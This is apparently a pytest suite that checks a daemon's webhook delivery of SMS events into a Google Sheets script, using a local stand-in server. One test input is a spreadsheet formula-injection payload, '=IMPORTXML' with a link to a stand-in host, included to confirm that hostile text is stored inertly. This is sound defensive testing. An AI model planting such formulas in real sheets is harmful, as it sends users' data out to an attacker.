"""The script for Google Sheets, as it is printed, in a stand-in of Google's services: what it keeps."""

import json
import ssl
import subprocess
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from daemon.config.load import load
from daemon.config.settings import Config
from daemon.core.delivery.outcome import Attempted, Outcome
from daemon.host import clock
from daemon.senders.webhook import WebhookSender
from daemon.wiring.senders import targets
from tests.support.attempts import message
from tests.support.certificates import Authority
from tests.support.config_files import ENVIRON, SIGNING, SMS, SYSTEM, written
from tests.support.parts import program
from tests.support.receiving import printed

pytestmark = [pytest.mark.slow, pytest.mark.needs("node")]
STAND_IN = Path(__file__).parent / "google" / "stand_in.mjs"
HEAD = ["id", "time", "system", "type", "subject", "status", "from", "to", "text"]


def event(number: int, text: str = "שלום") -> bytes:
    data = {
        "id": f"evt_{number}",
        "system": "main",
        "sequence": number,
        "subject": "sms/0541234567",
        "sms": {"from": "0541234567", "to": "0501234567", "text": text},
    }
    body = {"type": "sms.received", "timestamp": "2026-11-23T01:02:03.456Z", "data": data}
    return json.dumps(body, ensure_ascii=False, separators=(",", ":")).encode()


def row(number: int, text: str = "שלום") -> list[str]:
    time = "2026-11-23 03:02:03"
    return [
        f"evt_{number}",
        time,
        "main",
        "sms.received",
        "sms/0541234567",
        "",
        "0541234567",
        "0501234567",
        text,
    ]


@dataclass
class Google:
    """The stand-in, and the page's own configuration that leads there."""

    sender: WebhookSender
    port: int
    trust: ssl.SSLContext

    def sends(self, number: int, body: bytes | None = None, *, attempt: int = 1) -> Attempted:
        one = message("sheet", event=f"evt_{number}", body=body or event(number), attempt=attempt)
        self.sender.start(one)
        ended: list[Attempted] = []
        while not ended:  # the target's timeout ends it
            ended = self.sender.finished(1)
        return ended[0]

    def asks(self, path: str) -> str:
        url = f"https://127.0.0.1:{self.port}{path}"
        with urllib.request.urlopen(url, context=self.trust, timeout=30) as answer:
            return str(answer.read().decode())

    def rows(self) -> list[Any]:
        return list(json.loads(self.asks("/sheet")).get("yemotd", []))


@contextmanager
def google(folder: Path, secret: str = SIGNING, path: str = "/macros/s/deployment/exec") -> Iterator[Google]:
    authority = Authority(folder)
    (source,) = printed("google-sheets", "js")
    (folder / "Code.gs").write_text(source, encoding="utf-8")
    words = [program("node"), str(STAND_IN), "Code.gs", str(authority.issue("127.0.0.1")), secret]
    running = subprocess.Popen(words, cwd=folder, stdout=subprocess.PIPE, text=True)
    try:
        assert running.stdout
        _, script, content = running.stdout.readline().split()
        sender = WebhookSender(
            targets(configured(folder, f"https://127.0.0.1:{script}{path}", content, authority)),
            now=clock.utcnow,
            monotonic=clock.monotonic,
        )
        trust = ssl.create_default_context(cafile=authority.pem)
        yield Google(sender, int(script), trust)
        sender.close()
    finally:
        running.kill()
        running.communicate()


def configured(folder: Path, url: str, content: str, authority: Authority) -> Config:
    """The configuration that the page shows, but for whom it leads to and whom it trusts."""
    (shown,) = printed("google-sheets", "toml")
    for name, text in (("sheet-url", url), ("crm-secret", SIGNING)):
        (folder / name).touch(mode=0o600)
        (folder / name).write_text(text + "\n")
    text = shown.replace("https://script.googleusercontent.com/", f"https://127.0.0.1:{content}/macros/")
    assert text != shown
    return load(written(folder, SYSTEM + SMS + text + f'ca_file = "{authority.pem.name}"\n'), ENVIRON).config


def test_each_message_is_a_row_and_is_one_row(tmp_path: Path) -> None:
    with google(tmp_path) as sheet:
        first = sheet.sends(1)
        again = sheet.sends(1, attempt=2)
        other = sheet.sends(2, event(2, "second"))

        assert [one.outcome for one in (first, again, other)] == [Outcome.ACCEPTED] * 3
        said = [json.loads(one.response_head or "") for one in (first, again, other)]
        assert [one["isNew"] for one in said] == [True, False, True]
        assert sheet.rows() == [HEAD, row(1), row(2, "second")]


@pytest.mark.parametrize(
    "text", ['=IMPORTXML("https://x.example/"&A1)', "+1", "'quoted", "12345", "a\nb", "\U0001f4de", ""]
)
def test_a_stranger_s_text_is_text_and_nothing_else(tmp_path: Path, text: str) -> None:
    with google(tmp_path) as sheet:
        assert sheet.sends(1, event(1, text)).outcome is Outcome.ACCEPTED
        assert sheet.rows() == [HEAD, row(1, text)]


@pytest.mark.parametrize("breaks", ["append", "lock"])
def test_what_google_could_not_keep_comes_again(tmp_path: Path, breaks: str) -> None:
    with google(tmp_path) as sheet:
        sheet.sends(1)
        sheet.asks(f"/breaks/{breaks}")
        failed = sheet.sends(2)
        sheet.asks("/breaks/")
        again = sheet.sends(2, attempt=2)

        assert (failed.outcome, failed.http_status) == (Outcome.FAILED, 200)
        assert "a page in the place of the redirect" in (failed.error or "")
        assert again.outcome is Outcome.ACCEPTED
        assert sheet.rows() == [HEAD, row(1), row(2)]


def test_a_row_whose_answer_got_lost_is_not_written_twice(tmp_path: Path) -> None:
    with google(tmp_path) as sheet:
        sheet.asks("/breaks/answer")
        lost = sheet.sends(1)
        sheet.asks("/breaks/")
        again = sheet.sends(1, attempt=2)

        assert (lost.outcome, lost.error) == (Outcome.FAILED, "after the redirect to 127.0.0.1: HTTP 500")
        assert again.outcome is Outcome.ACCEPTED
        assert sheet.rows() == [HEAD, row(1)]


def test_who_has_not_the_secret_writes_nothing(tmp_path: Path) -> None:
    with google(tmp_path, "whsec_" + "QUJD" * 8) as sheet:
        ended = sheet.sends(1)

        assert ended.outcome is Outcome.FAILED
        assert "not genuine" in (ended.response_head or "")
        assert sheet.rows() == []


def test_without_the_script_property_it_is_said(tmp_path: Path) -> None:
    with google(tmp_path, "") as sheet:
        assert "the script property SECRET is missing" in (sheet.sends(1).response_head or "")


def test_a_login_in_its_place_is_no_success(tmp_path: Path) -> None:
    with google(tmp_path, path="/macros/s/another/exec") as sheet:
        ended = sheet.sends(1)

        assert ended.outcome is Outcome.REDIRECTED
        assert ended.error is not None
        assert ended.error.startswith(
            "HTTP 302 to accounts.example, which is not below accept_redirect, https://127.0.0.1:"
        )
        assert sheet.rows() == []
